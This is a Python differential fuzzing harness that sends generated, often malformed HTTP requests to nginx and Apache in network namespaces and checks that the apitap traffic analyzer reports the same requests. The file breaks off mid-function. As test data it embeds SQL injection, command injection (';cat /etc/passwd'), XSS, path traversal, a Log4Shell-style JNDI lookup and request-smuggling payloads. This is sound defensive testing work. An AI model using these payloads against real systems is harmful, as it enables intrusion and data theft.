#!/usr/bin/env python3
"""Differential harness: real servers vs apitap on generated HTTP/1.x request shapes.

In the habit of HTTP Garden and T-Reqs: a small grammar (seeded) generates request shapes, a
client sends them over real TCP to real servers (nginx and Apache httpd) in network namespaces
created here, tcpdump captures the server's veth, `apitap replay` reads the capture, and every
request a server logged (method, target, status) is compared with apitap's `http` events
(http.http_method, http.url, http.status). See README.md next to this file.

Python 3 standard library only. Needs root (namespaces, tcpdump), ip, nginx, apache2, tcpdump.

    diff.py --seed 1 --cases 300 --apitap target/release/apitap        # run, compare, summary
    diff.py --compare-only WORKDIR --apitap other/apitap                # re-compare a kept run

Exit status: 0 clean; 1 a server-logged request is missing or mismatched in apitap (or the run
itself is unsound: tcpdump drops, no request logged); 2 usage or environment error.
"""

import argparse
import atexit
import collections
import concurrent.futures
import json
import os
import random
import re
import shutil
import signal
import socket
import string
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
SRV_IP, CLI_IP = "10.78.0.1", "10.78.0.2"
PORTS = {"nginx": 80, "apache": 8080}
FIRST_CLIENT_PORT = 10000
MAX_CONNECTIONS = 50000  # client ports FIRST_CLIENT_PORT.. are unique per connection
MAX_CASES = MAX_CONNECTIONS // 2
CONN_TIMEOUT = 5.0  # per connection, send + read
IDLE_AFTER = 0.5  # keep-alive ending: close after this long without response bytes
BATCH = 1000  # cases per capture file
ID_RE = re.compile(r"id=(\d+-\d+-\d+)")

# ---------------------------------------------------------------------------------------------
# grammar


def _w(rng, table):
    """Weighted choice from [(weight, value), ...]."""
    r = rng.random() * sum(w for w, _ in table)
    for w, v in table:
        r -= w
        if r < 0:
            return v
    return table[-1][1]


COMMON_METHODS = [(12, "GET"), (5, "POST"), (1, "HEAD"), (1, "PUT"), (1, "DELETE"), (1, "OPTIONS"), (1, "PATCH")]
PATHS = ["/echo", "/index.html", "/api/users.json", "/", "/missing/x"]
PAYLOADS = ["", "&q=1'%20OR%201=1--", "&cmd=;cat%20/etc/passwd", "&x=%3Cscript%3Ealert(1)%3C/script%3E",
            "&p=../../etc/passwd"]
CTL_BYTES = [c for c in range(1, 32) if c not in (9, 10, 13)] + [0x7F]
BODY_METHODS = {"POST", "PUT", "PATCH"}
# Deviations from a plain request; a request carries none (half of them), one, or two, so that a
# disagreement can be traced to the feature that caused it.
FEATURES = [
    (4, "method:odd"), (2, "method:odd-len2"), (2, "method:odd-len21"), (1, "method:lowercase"),
    (3, "version:HTTP/1.0"), (3, "version:HTTP/1.2"), (2, "version:HTTP/1.9"), (2, "version:HTTP/1.01"),
    (2, "version:none(0.9)"),
    (1, "ws:double-space"), (1, "ws:tab"), (1, "ws:trailing-space"), (1, "ws:bare-lf"),
    (2, "hdr:obs-fold"), (2, "hdr:ctl-byte"), (1, "hdr:ctl-0x7f"),
    (1, "head:>8KiB"), (1, "head:>32KiB"),
    (3, "body:chunked"), (2, "chunk:leading-zeros"), (2, "chunk:upper-hex"), (1, "chunk:extension"),
    (1, "chunk:trailer"), (2, "body:cl+te"), (1, "body:dup-cl"), (1, "body:none"), (2, "body:smuggle-text"),
    (1, "body:on-get"),
]


def gen_request(rng, rid, last, tags):
    """One request; returns bytes. `tags` gets the deviations used (and conn:close)."""
    k = _w(rng, [(50, 0), (40, 1), (10, 2)])
    feats = set()
    while len(feats) < k:  # at most one deviation per category (method, version, ws, hdr, head, body)
        f = _w(rng, FEATURES)
        cat = "body" if f.startswith("chunk:") and f != "body:smuggle-text" else f.split(":")[0]
        if f == "body:smuggle-text":
            cat = "smuggle"
        if all(("body" if g.startswith("chunk:") else g.split(":")[0]) != cat for g in feats
               if g != "body:smuggle-text"):
            feats.add(f)
    if "version:none(0.9)" in feats and not last:
        feats.discard("version:none(0.9)")
    method = _w(rng, COMMON_METHODS)
    if "body:on-get" in feats and method in BODY_METHODS:
        method = "GET"
    tags.extend(sorted(feats))
    if "method:odd" in feats:
        method = "".join(rng.choice(string.ascii_uppercase) for _ in range(rng.randint(3, 20)))
    elif "method:odd-len2" in feats or "method:odd-len21" in feats:
        n = 2 if "method:odd-len2" in feats else 21
        method = "".join(rng.choice(string.ascii_uppercase) for _ in range(n))
    elif "method:lowercase" in feats:
        method = rng.choice(["get", "post", "Get"])
    version = "HTTP/1.1"
    for f in feats:
        if f.startswith("version:"):
            version = None if f == "version:none(0.9)" else f[len("version:"):]
    target = "%s?id=%s%s" % (rng.choice(PATHS), rid, rng.choice(PAYLOADS))

    eol, sp1, sp2, trail = "\r\n", " ", " ", ""
    if "ws:double-space" in feats:
        sp1 = "  "
    if "ws:tab" in feats:
        sp2 = "\t"
    if "ws:trailing-space" in feats:
        trail = " "
    if "ws:bare-lf" in feats:
        eol = "\n"
    if version is None:
        return (method + sp1 + target + trail + eol).encode("latin-1")

    line = method + sp1 + target + sp2 + version + trail + eol
    hdrs = [("Host", "df.test"), ("User-Agent", "apitap-differential/1")]
    if "hdr:obs-fold" in feats:
        hdrs.append(("X-Fold", "a" + eol + " folded-" + rid))
    if "hdr:ctl-byte" in feats or "hdr:ctl-0x7f" in feats:
        c = 0x7F if "hdr:ctl-0x7f" in feats else rng.choice(CTL_BYTES[:-1])
        hdrs.append(("X-Api-Version", "${jndi:ldap://x/%s}%s" % (rid, chr(c))))
    if "head:>8KiB" in feats or "head:>32KiB" in feats:
        size = rng.choice([33000, 40000]) if "head:>32KiB" in feats else rng.choice([9000, 20000])
        n = 0
        while size > 0:
            hdrs.append(("X-Pad-%d" % n, "p" * min(size, 4000)))
            size -= 4000
            n += 1
    if last and rng.random() < 0.5:
        hdrs.append(("Connection", "close"))
        tags.append("conn:close")
    elif version == "HTTP/1.0" and not last:
        hdrs.append(("Connection", "keep-alive"))

    body = b""
    chunk = {f for f in feats if f.startswith("chunk:")}
    framing = "cl"
    for f in ("body:chunked", "body:cl+te", "body:dup-cl", "body:none"):
        if f in feats:
            framing = f[len("body:"):]
    if chunk and framing in ("cl", "dup-cl", "none"):
        framing = "chunked"
    has_body = method.upper() in BODY_METHODS or "body:on-get" in feats or framing != "cl" \
        or "body:smuggle-text" in feats
    if has_body:
        payload = "id=%s&q=1'%%20UNION%%20SELECT%%20password%%20FROM%%20users--&" % rid
        payload += "z" * _w(rng, [(6, 0), (3, rng.randint(1, 300)), (1, rng.randint(300, 3000))])
        if "body:smuggle-text" in feats:
            payload += "\r\nGET /smuggled?in=%s HTTP/1.1\r\nHost: df.test\r\n\r\n" % rid
        pb = payload.encode()
        if framing in ("cl", "dup-cl"):
            hdrs.append(("Content-Length", str(len(pb))))
            if framing == "dup-cl":
                hdrs.append(("Content-Length", str(len(pb))))
            body = pb
        elif framing in ("chunked", "cl+te"):
            if framing == "cl+te":
                hdrs.append(("Content-Length", str(len(pb))))
            hdrs.append(("Transfer-Encoding", "chunked"))
            body = gen_chunked(rng, pb, eol, chunk)
    head = line + "".join("%s: %s%s" % (k, v, eol) for k, v in hdrs) + eol
    return head.encode("latin-1") + body


def gen_chunked(rng, pb, eol, chunk):
    lz = "chunk:leading-zeros" in chunk
    upper = "chunk:upper-hex" in chunk
    ext = "chunk:extension" in chunk
    trailer = "chunk:trailer" in chunk
    out = []
    i = 0
    while i < len(pb):
        n = min(len(pb) - i, rng.randint(1, 700))
        size = ("%X" if upper else "%x") % n
        if lz:
            size = "0" * rng.randint(1, 16) + size
        out.append(size + (";ext=%d" % n if ext else "") + eol)
        out.append(pb[i : i + n].decode("latin-1") + eol)
        i += n
    out.append(("000" if lz else "0") + eol)
    if trailer:
        out.append("X-Trailer: t" + eol)
    out.append(eol)
    return "".join(out).encode("latin-1")


def gen_case(seed, i):
    """Case i of a seed: one connection's worth of requests, sent identically to every server."""
    rng = random.Random("%d:%d" % (seed, i))
    depth = _w(rng, [(60, 1), (25, rng.randint(2, 5)), (10, rng.randint(6, 20)), (5, rng.randint(60, 100))])
    ctags = []
    if depth > 64:
        ctags.append("pipeline:>64")
    elif depth > 5:
        ctags.append("pipeline:6-64")
    reqs = []
    for j in range(depth):
        tags = []
        raw = gen_request(rng, "%d-%d-%d" % (seed, i, j), j == depth - 1, tags)
        reqs.append({"id": "%d-%d-%d" % (seed, i, j), "tags": tags, "len": len(raw), "raw": raw})
        if b"Connection: close" in raw or "version:none(0.9)" in tags:
            break
    data = b"".join(r["raw"] for r in reqs)
    splits = []
    mode = _w(rng, [(50, None), (40, "random"), (10, "head-bytes")])
    if mode == "random":
        splits = sorted(set(rng.randint(1, len(data) - 1) for _ in range(rng.randint(1, 8)) if len(data) > 1))
    elif mode == "head-bytes":  # the first bytes one per segment: a request line split everywhere
        splits = list(range(1, min(len(data), 12)))
    if mode:
        ctags.append("split:" + mode)
    return {"case": i, "tags": ctags, "requests": reqs, "data": data, "splits": splits}


def escape_bytes(b):
    return b.decode("latin-1").encode("unicode_escape").decode("ascii")


# ---------------------------------------------------------------------------------------------
# environment


class Env:
    def __init__(self, tag, work):
        self.tag = tag
        self.srv = tag + "-s"
        self.cli = tag + "-c"
        short = tag.replace("-", "")[:10]
        self.srv_if, self.cli_if = short + "s0", short + "c0"
        self.work = work
        self.procs = []

    def sh(self, *cmd, check=True):
        r = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=30)
        if check and r.returncode != 0:
            raise RuntimeError("%s: %s" % (" ".join(cmd), r.stderr.decode(errors="replace").strip()))
        return r

    def up(self):
        self.down()
        s, c = self.srv, self.cli
        self.sh("ip", "netns", "add", s)
        self.sh("ip", "netns", "add", c)
        self.sh("ip", "link", "add", self.srv_if, "type", "veth", "peer", "name", self.cli_if)
        self.sh("ip", "link", "set", self.srv_if, "netns", s)
        self.sh("ip", "link", "set", self.cli_if, "netns", c)
        for ns, dev, ip in ((s, self.srv_if, SRV_IP), (c, self.cli_if, CLI_IP)):
            self.sh("ip", "-n", ns, "addr", "add", ip + "/24", "dev", dev)
            self.sh("ip", "-n", ns, "link", "set", dev, "up")
            self.sh("ip", "-n", ns, "link", "set", "lo", "up")
            if shutil.which("ethtool"):
                r = self.sh("ip", "netns", "exec", ns, "ethtool", "-K", dev, "tx", "off", "tso", "off", "gso",
                            "off", "gro", "off", check=False)
                if r.returncode != 0:
                    log("warning: ethtool -K %s failed: frames may exceed the MTU" % dev)
            else:
                log("warning: ethtool missing: offloads stay on, frames may exceed the MTU")

    def down(self):
        for ns in (self.srv, self.cli):
            subprocess.run(["ip", "netns", "del", ns], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def spawn(self, args, **kw):
        p = subprocess.Popen(["ip", "netns", "exec", self.srv] + args, **kw)
        self.procs.append(p)
        return p

    def stop(self, p, sig=signal.SIGTERM):
        if p.poll() is None:
            p.send_signal(sig)
            try:
                p.wait(10)
            except subprocess.TimeoutExpired:
                p.kill()
                p.wait()

    def cleanup(self):
        for p in reversed(self.procs):
            if p.poll() is None:
                p.terminate()  # Apache's parent stops its children on SIGTERM, not on SIGKILL
                try:
                    p.wait(5)
                except subprocess.TimeoutExpired:
                    p.kill()
                    p.wait()
        self.procs = []
        # anything still running inside our own namespaces (started by us: an orphaned server child)
        for ns in (self.srv, self.cli):
            r = subprocess.run(["ip", "netns", "pids", ns], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
            for pid in r.stdout.split():
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except (OSError, ValueError):
                    pass
        self.down()


def log(msg):
    print("[%s] %s" % (time.strftime("%H:%M:%S"), msg), file=sys.stderr, flush=True)


def make_docroot(work):
    www = os.path.join(work, "www")
    os.makedirs(os.path.join(www, "api"), exist_ok=True)
    with open(os.path.join(www, "index.html"), "w") as f:
        f.write("<html>hello</html>\n" * 40)
    with open(os.path.join(www, "echo"), "w") as f:
        f.write("ok\n")
    with open(os.path.join(www, "api", "users.json"), "w") as f:
        f.write('{"users":[1,2,3]}\n' * 100)
    for d, _, files in os.walk(work):  # Apache's workers run as nobody
        os.chmod(d, 0o755)
        for fn in files:
            os.chmod(os.path.join(d, fn), 0o644)
    return www


def nginx_conf(work, www):
    conf = os.path.join(work, "nginx.conf")
    tmp = os.path.join(work, "nginx-tmp")
    os.makedirs(tmp, exist_ok=True)
    with open(conf, "w") as f:
        f.write("""daemon off;
master_process off;
user root;
worker_processes 1;
pid {w}/nginx.pid;
error_log {w}/nginx-error.log info;
events {{ worker_connections 1024; }}
http {{
  client_body_temp_path {t}/body; proxy_temp_path {t}/proxy; fastcgi_temp_path {t}/fcgi;
  uwsgi_temp_path {t}/uwsgi; scgi_temp_path {t}/scgi;
  default_type application/octet-stream;
  large_client_header_buffers 8 64k;
  keepalive_requests 10000;
  keepalive_timeout 30s;
  log_format df escape=json '{{"client_port":$remote_port,"method":"$request_method","uri":"$request_uri",'
      '"protocol":"$server_protocol","status":$status,"n":$connection_requests}}';
  server {{
    listen {ip}:{port};
    access_log {w}/nginx-access.jsonl df;
    root {www};
  }}
}}
""".format(w=work, t=tmp, www=www, ip=SRV_IP, port=PORTS["nginx"]))
    return conf


# One JSON object per request once Apache's \xhh escapes are decoded (see unescape_apache).
APACHE_LOG_FORMAT = (
    'LogFormat "{\\"client_port\\":%{remote}p,\\"method\\":\\"%m\\",\\"line\\":\\"%r\\",'
    '\\"protocol\\":\\"%H\\",\\"status\\":%>s,\\"n\\":%k}" df'
)


def apache_conf(work, www):
    conf = os.path.join(work, "apache2.conf")
    mods = "/usr/lib/apache2/modules"
    with open(conf, "w") as f:
        f.write("""ServerRoot {w}
ServerName df.test
Listen {ip}:{port}
PidFile {w}/apache.pid
DefaultRuntimeDir {w}
Mutex file:{w} default
LoadModule mpm_event_module {m}/mod_mpm_event.so
LoadModule authz_core_module {m}/mod_authz_core.so
LoadModule mime_module {m}/mod_mime.so
LoadModule dir_module {m}/mod_dir.so
TypesConfig /dev/null
User nobody
Group nogroup
ErrorLog {w}/apache-error.log
LogLevel info
KeepAlive On
MaxKeepAliveRequests 0
KeepAliveTimeout 30
LimitRequestLine 65536
LimitRequestFieldSize 65536
LimitRequestFields 200
StartServers 1
ServerLimit 1
ThreadsPerChild 64
MaxRequestWorkers 64
DocumentRoot {www}
<Directory {www}>
  Require all granted
</Directory>
{logformat}
CustomLog {w}/apache-access.log df
""".format(logformat=APACHE_LOG_FORMAT, w=work, www=www, ip=SRV_IP, port=PORTS["apache"], m=mods))
    return conf


def wait_listen(env, port, what, proc):
    for _ in range(100):
        r = env.sh("ip", "netns", "exec", env.srv, "ss", "-Htln", "sport = :%d" % port, check=False)
        if r.stdout.strip():
            return
        if proc.poll() is not None:
            break
        time.sleep(0.1)
    raise RuntimeError("%s does not listen on %d (see %s)" % (what, port, env.work))


# ---------------------------------------------------------------------------------------------
# client (runs inside the client namespace: `diff.py --client PLAN RESULTS`)


def send_case(job):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    res = {"server": job["server"], "case": job["case"], "port": job["client_port"], "recv": 0, "error": None}
    t0 = time.monotonic()
    try:
        s.bind((CLI_IP, job["client_port"]))
        s.settimeout(CONN_TIMEOUT)
        s.connect((job["ip"], job["port"]))
        data = bytes.fromhex(job["data"])
        prev = 0
        try:
            for cut in job["splits"] + [len(data)]:
                s.sendall(data[prev:cut])
                prev = cut
                if cut != len(data):
                    time.sleep(job["gap"])
        except (BrokenPipeError, ConnectionResetError):
            res["closed_early"] = True  # the server closed (after a 400, say) before reading it all
        # until the server closes; a keep-alive ending: until IDLE_AFTER without bytes once the
        # first response bytes are in (a busy machine may take a while to answer at all)
        while time.monotonic() - t0 < CONN_TIMEOUT:
            idle = res["recv"] and not job["close"]
            s.settimeout(IDLE_AFTER if idle else max(0.01, CONN_TIMEOUT - (time.monotonic() - t0)))
            try:
                b = s.recv(65536)
            except ConnectionResetError:
                res["closed_early"] = True
                break
            except socket.timeout:
                if not idle:
                    res["error"] = "timeout: %s" % ("no close" if job["close"] else "no response")
                break
            if not b:
                break
            res["recv"] += len(b)
    except OSError as e:
        res["error"] = "%s: %s" % (type(e).__name__, e)
    finally:
        s.close()
    res["secs"] = round(time.monotonic() - t0, 3)
    return res


def client_main(plan_path, out_path, jobs):
    with open(plan_path) as f:
        plan = [json.loads(l) for l in f]
    with concurrent.futures.ThreadPoolExecutor(jobs) as ex, open(out_path, "w") as out:
        for r in ex.map(send_case, plan):
            out.write(json.dumps(r) + "\n")
    return 0


# ---------------------------------------------------------------------------------------------
# logs and apitap events


def unescape_apache(s):
    """Apache escapes bytes as \\xhh and whitespace C-style inside %r: make it JSON."""
    s = re.sub(r"\\x([0-9a-fA-F]{2})", lambda m: "\\u00" + m.group(1), s)
    return s.replace("\\v", "\\u000b")


def read_server_log(work, server):
    out = []
    if server == "nginx":
        path = os.path.join(work, "nginx-access.jsonl")
    else:
        path = os.path.join(work, "apache-access.log")
    if not os.path.exists(path):
        return out
    with open(path, encoding="latin-1") as f:
        for line in f:
            line = line.rstrip("\n")
            if not line:
                continue
            try:
                e = json.loads(line if server == "nginx" else unescape_apache(line))
            except ValueError:
                out.append({"client_port": None, "method": "", "uri": "", "status": None, "raw": line})
                continue
            if server == "apache":
                m, lr, proto = e.get("method", ""), e.get("line", ""), e.get("protocol", "")
                uri = lr
                if m and m != "-" and uri.startswith(m):
                    uri = uri[len(m):]
                uri = uri.strip(" \t")
                # the version as sent (%H normalises it: "HTTP/1.01" is logged as HTTP/1.0)
                v = re.fullmatch(r"(.*?)[ \t]+HTTP/\S*", uri, re.I | re.S)
                if v and proto != "HTTP/0.9":
                    uri = v.group(1)
                e["uri"] = "" if lr == "-" else uri
                e["method"] = "" if m == "-" else m
            out.append(e)
    return out


def run_apitap(apitap, pcaps, out_path):
    with open(out_path, "w") as out:
        for p in pcaps:
            r = subprocess.run([apitap, "replay", "-q", "--no-progress", p], stdout=out, stderr=subprocess.PIPE,
                               timeout=1800)
            if r.returncode != 0:
                raise RuntimeError("apitap replay %s: exit %d: %s" % (p, r.returncode, r.stderr.decode()[-2000:]))


def read_apitap(path):
    """{(server port, client port): {"http": [...], "anomalies": Counter}}"""
    flows = collections.defaultdict(lambda: {"http": [], "anomalies": collections.Counter()})
    server_ports = set(PORTS.values())
    with open(path, encoding="utf-8", errors="replace") as f:
        for line in f:
            try:
                e = json.loads(line)
            except ValueError:
                continue
            et = e.get("event_type")
            if et not in ("http", "anomaly"):
                continue
            sp, dp = e.get("src_port"), e.get("dest_port")
            if dp in server_ports:
                key = (dp, sp)
            elif sp in server_ports:
                key = (sp, dp)
            else:
                continue
            if et == "http":
                h = e.get("http", {})
                flows[key]["http"].append(
                    {"method": h.get("http_method"), "url": h.get("url"), "status": h.get("status")}
                )
            else:
                flows[key]["anomalies"][e.get("anomaly", {}).get("event", "?")] += 1
    return flows


# ---------------------------------------------------------------------------------------------
# comparison


def compare(work, apitap_out, cases_path, results_path):
    cases = {}
    with open(cases_path) as f:
        for line in f:
            c = json.loads(line)
            cases[(c["server"], c["client_port"])] = c
    results = {}
    if os.path.exists(results_path):
        with open(results_path) as f:
            for line in f:
                r = json.loads(line)
                results[(r["server"], r["port"])] = r
    flows = read_apitap(apitap_out)
    summary = {}
    groups = collections.Counter()
    isolated = collections.Counter()
    examples = {}
    details = []
    for server, sport in PORTS.items():
        logged = read_server_log(work, server)
        st = collections.Counter()
        mism = collections.Counter()
        flagged = collections.Counter()
        anomalies = collections.Counter()
        st["cases"] = sum(1 for k in cases if k[0] == server)
        errs = [r["error"] for k, r in results.items() if k[0] == server and r["error"]]
        st["client_timeouts"] = sum(1 for e in errs if e.startswith("timeout"))  # the server waited for more
        st["client_errors"] = len(errs) - st["client_timeouts"]  # socket errors: the run is unsound
        by_port = collections.defaultdict(list)
        for e in logged:
            by_port[e.get("client_port")].append(e)
        for (srv, cport), case in cases.items():
            if srv != server:
                continue
            flow = flows.get((sport, cport), {"http": [], "anomalies": collections.Counter()})
            anomalies.update(flow["anomalies"])
            by_id = collections.defaultdict(list)
            for ev in flow["http"]:
                m = ID_RE.search(ev["url"] or "")
                by_id[m.group(1) if m else None].append(ev)
            reqs = {r["id"]: (n, r) for n, r in enumerate(case["requests"])}
            conn = []  # this connection's disagreements: (request index, kind, detail)
            for e in by_port.get(cport, []):
                m = ID_RE.search(e.get("uri") or "")
                if not e.get("method") or not m:
                    st["server_unparsed"] += 1  # a 400 for bytes the server could not read as a request
                    # apitap at least saw trouble there: an anomaly, or a transaction with that status
                    if not flow["anomalies"] and not any(ev["status"] == e.get("status") for ev in flow["http"]):
                        st["server_unparsed_silent"] += 1
                    continue
                st["logged"] += 1
                rid = m.group(1)
                cands = by_id.get(rid, [])
                want = {"method": e["method"], "url": e["uri"], "status": e["status"]}
                got = None
                for ev in cands:
                    if ev["method"] == want["method"] and ev["url"] == want["url"]:
                        got = ev
                        break
                if got is None and cands:
                    got = cands[0]
                if got is not None:
                    cands.remove(got)
                n, req = reqs.get(rid, (0, {"tags": []}))
                if got is None:
                    kind = "missing"
                    st["missing"] += 1
                else:
                    bad = [k for k in ("method", "url", "status") if got[k] != want[k]]
                    # An HTTP/0.9 reply is the bare body: there is no status on the wire (the
                    # server logs the status it meant); apitap must report none (0).
                    # (nginx logs its protocol as "", Apache as HTTP/0.9)
                    if (e.get("protocol") or "").upper() in ("", "HTTP/0.9") and "status" in bad and not got["status"]:
                        bad.remove("status")
                        st["http09_no_status"] = st.get("http09_no_status", 0) + 1
                    if not bad:
                        st["matched"] += 1
                        continue
                    kind = "mismatch:" + "+".join(bad)
                    st["mismatched"] += 1
                    for k in bad:
                        mism[k] += 1
                if flow["anomalies"]:
                    flagged[kind.split(":")[0]] += 1
                raw = bytes.fromhex(req.get("raw_hex", ""))
                d = {"server": server, "kind": kind, "id": rid, "client_port": cport, "want": want, "got": got,
                     "tags": req["tags"], "conn_tags": case["tags"],
                     "earlier_tags": sorted({t for r in case["requests"][:n] for t in r["tags"]}),
                     "anomalies": dict(flow["anomalies"]), "request": escape_bytes(raw[:2000])}
                conn.append((n, kind, d))
            conn.sort(key=lambda x: x[0])
            for k, (n, kind, d) in enumerate(conn):
                d["root"] = k == 0
                details.append(d)
                if k:
                    st["cascade"] += 1  # a later disagreement on a connection that already had one
                    continue
                st["connections_with_disagreement"] += 1
                own = [t for t in d["tags"] if t != "conn:close"]
                feats = (own or ["after:" + t for t in d["earlier_tags"] if t != "conn:close"]
                         or d["conn_tags"] + [t for t in d["tags"] if t == "conn:close"] or ["(default shape)"])
                what = kind
                if kind == "mismatch:status" and d["got"]["status"] is None:
                    what = "mismatch:status(none)"  # no response paired with it
                what += " [anomaly]" if d["anomalies"] else " [silent]"
                for t in feats:
                    groups[(server, what, t)] += 1
                    examples.setdefault((server, what, t), d)
                # one cause only: the request's single deviation on an otherwise plain connection
                # (else the connection's own features, when no request on it deviates)
                earlier = [t for t in d["earlier_tags"] if t != "conn:close"]
                if len(own) == 1 and not earlier:  # (a pipeline over 64 is a cause of its own)
                    deep = "+pipeline:>64" if "pipeline:>64" in d["conn_tags"] else ""
                    isolated[(server, what, own[0] + deep)] += 1
                elif not own and not earlier:
                    isolated[(server, what, "+".join(d["conn_tags"]) or "(default shape)")] += 1
            # apitap transactions no server logged
            for rid, evs in by_id.items():
                for ev in evs:
                    if ev["status"] is None:
                        st["apitap_unanswered"] += 1  # a request the server never answered (not logged)
                    elif (ev["url"] or "").startswith("/smuggled?in="):
                        st["apitap_phantom_smuggled"] += 1
                    else:
                        st["apitap_extra"] += 1
                    details.append({"server": server, "kind": "extra", "client_port": cport, "got": ev,
                                    "tags": case["tags"], "anomalies": dict(flow["anomalies"])})
        for k in ("logged", "matched", "missing", "mismatched", "server_unparsed", "server_unparsed_silent",
                  "apitap_unanswered",
                  "apitap_phantom_smuggled", "apitap_extra", "cases", "client_errors", "client_timeouts", "cascade",
                  "connections_with_disagreement"):
            st.setdefault(k, 0)
        summary[server] = dict(st, mismatched_fields=dict(mism), disagreements_with_anomaly=dict(flagged),
                               anomalies=dict(anomalies))
    return summary, groups, isolated, examples, details


def print_summary(summary, groups, isolated, out=sys.stdout):
    for server, st in summary.items():
        print("== %s: %d cases, %d requests logged, %d matched, %d missing in apitap, %d mismatched %s"
              % (server, st["cases"], st["logged"], st["matched"], st["missing"], st["mismatched"],
                 st["mismatched_fields"]), file=out)
        print("   connections with a disagreement: %d (later disagreements on them: %d); disagreements on flows "
              "where apitap raised an anomaly: %s" % (st["connections_with_disagreement"], st["cascade"],
                                                      st["disagreements_with_anomaly"]), file=out)
        print("   server log lines without a request (400 on unreadable bytes): %d (%d with neither an anomaly nor "
              "a transaction with that status on the flow); apitap transactions no server logged: %d unanswered, "
              "%d smuggled-in-body, %d other; client errors: %d, timeouts: %d"
              % (st["server_unparsed"], st["server_unparsed_silent"], st["apitap_unanswered"],
                 st["apitap_phantom_smuggled"], st["apitap_extra"], st["client_errors"], st["client_timeouts"]),
              file=out)
        if st["anomalies"]:
            print("   anomalies: %s" % ", ".join("%s=%d" % kv for kv in sorted(st["anomalies"].items())), file=out)
    if isolated:
        print("== single-cause disagreements: the first disagreement of a connection whose request carries one "
              "deviation and follows only plain requests (server, what apitap did, feature: count)", file=out)
        for (server, kind, tag), n in sorted(isolated.items(), key=lambda kv: (kv[0][0], -kv[1], kv[0])):
            print("   %-6s %-34s %-28s %6d" % (server, kind, tag, n), file=out)
    if groups:
        print("== first disagreement of each connection, by grammar feature (server, kind, feature: count; the "
              "request's own deviations, else 'after:' those of earlier requests on the connection, else the "
              "connection's pipeline/split/close features; [anomaly]: apitap raised an anomaly on that flow)", file=out)
        for (server, kind, tag), n in sorted(groups.items(), key=lambda kv: (kv[0][0], -kv[1], kv[0])):
            print("   %-6s %-34s %-28s %6d" % (server, kind, tag, n), file=out)


# ---------------------------------------------------------------------------------------------
# run


def run(args):
    if os.geteuid() != 0:
        log("needs root (network namespaces, tcpdump)")
        return 2
    missing = [t for t in ("ip", "nginx", "apache2", "tcpdump", "ss") if not shutil.which(t)]
    if missing:
        log("missing tools: %s" % " ".join(missing))
        return 2
    if not re.fullmatch(r"df-[a-z0-9]{1,8}", args.tag):
        log("--tag must match df-[a-z0-9]{1,8}")
        return 2
    if args.cases > MAX_CASES:
        log("--cases is at most %d (one client port per connection)" % MAX_CASES)
        return 2
    work = os.path.abspath(args.work) if args.work else tempfile.mkdtemp(prefix="apitap-diff-")
    os.makedirs(work, exist_ok=True)
    env = Env(args.tag, work)

    def on_signal(signum, _frame):
        raise KeyboardInterrupt("signal %d" % signum)

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGHUP, on_signal)
    atexit.register(env.cleanup)
    t_start = time.monotonic()
    try:
        env.up()
        www = make_docroot(work)
        servers = [s for s in args.servers.split(",") if s]
        for s in servers:
            if s not in PORTS:
                log("unknown server %s" % s)
                return 2
        procs = {}
        if "nginx" in servers:
            procs["nginx"] = env.spawn(["nginx", "-c", nginx_conf(work, www)], stdout=subprocess.DEVNULL,
                                       stderr=open(os.path.join(work, "nginx.out"), "w"))
            wait_listen(env, PORTS["nginx"], "nginx", procs["nginx"])
        if "apache" in servers:
            procs["apache"] = env.spawn(["apache2", "-f", apache_conf(work, www), "-DFOREGROUND"],
                                        stdout=subprocess.DEVNULL, stderr=open(os.path.join(work, "apache.out"), "w"))
            wait_listen(env, PORTS["apache"], "apache", procs["apache"])

        cases_path = os.path.join(work, "cases.jsonl")
        results_path = os.path.join(work, "client-results.jsonl")
        pcaps = []
        drops = 0
        next_port = FIRST_CLIENT_PORT
        done = 0
        with open(cases_path, "w") as cf, open(results_path, "w") as rf:
            for b0 in range(0, args.cases, BATCH):
                if time.monotonic() - t_start > args.time_limit:
                    log("time limit reached after %d cases" % done)
                    break
                plan = []
                for i in range(b0, min(args.cases, b0 + BATCH)):
                    case = gen_case(args.seed, i)
                    for s in servers:
                        grng = random.Random("gap:%d:%d" % (args.seed, i))
                        job = {"server": s, "case": i, "client_port": next_port, "ip": SRV_IP, "port": PORTS[s],
                               "data": case["data"].hex(), "splits": case["splits"],
                               "gap": grng.choice([0.001, 0.005, 0.02]),
                               "close": b"Connection: close" in case["requests"][-1]["raw"]
                               or "version:none(0.9)" in case["requests"][-1]["tags"]}
                        next_port += 1
                        plan.append(job)
                        cf.write(json.dumps({"server": s, "case": i, "client_port": job["client_port"],
                                             "tags": case["tags"], "splits": case["splits"],
                                             "requests": [{"id": r["id"], "tags": r["tags"],
                                                           "raw_hex": r["raw"].hex()} for r in case["requests"]]})
                                 + "\n")
                plan_path = os.path.join(work, "plan-%d.jsonl" % (b0 // BATCH))
                with open(plan_path, "w") as pf:
                    for j in plan:
                        pf.write(json.dumps(j) + "\n")
                pcap = os.path.join(work, "capture-%d.pcap" % (b0 // BATCH))
                tlog = open(pcap + ".tcpdump.log", "w")
                tcpd = env.spawn(["tcpdump", "-i", env.srv_if, "-s", "0", "-n", "-Z", "root", "--immediate-mode",
                                  "-U", "-B", "65536", "-w", pcap, "tcp"], stdout=subprocess.DEVNULL, stderr=tlog)
                for _ in range(100):
                    with open(pcap + ".tcpdump.log") as t:
                        if "listening on" in t.read():
                            break
                    time.sleep(0.1)
                else:
                    raise RuntimeError("tcpdump did not start (%s.tcpdump.log)" % pcap)
                batch_results = os.path.join(work, "client-results-%d.jsonl" % (b0 // BATCH))
                budget = max(60.0, len(plan) * CONN_TIMEOUT / args.jobs + 60)
                r = subprocess.run(["ip", "netns", "exec", env.cli, sys.executable, os.path.abspath(__file__),
                                    "--client", plan_path, batch_results, "--jobs", str(args.jobs)], timeout=budget)
                if r.returncode != 0:
                    raise RuntimeError("client failed (exit %d)" % r.returncode)
                with open(batch_results) as br:
                    rf.write(br.read())
                time.sleep(1.0)
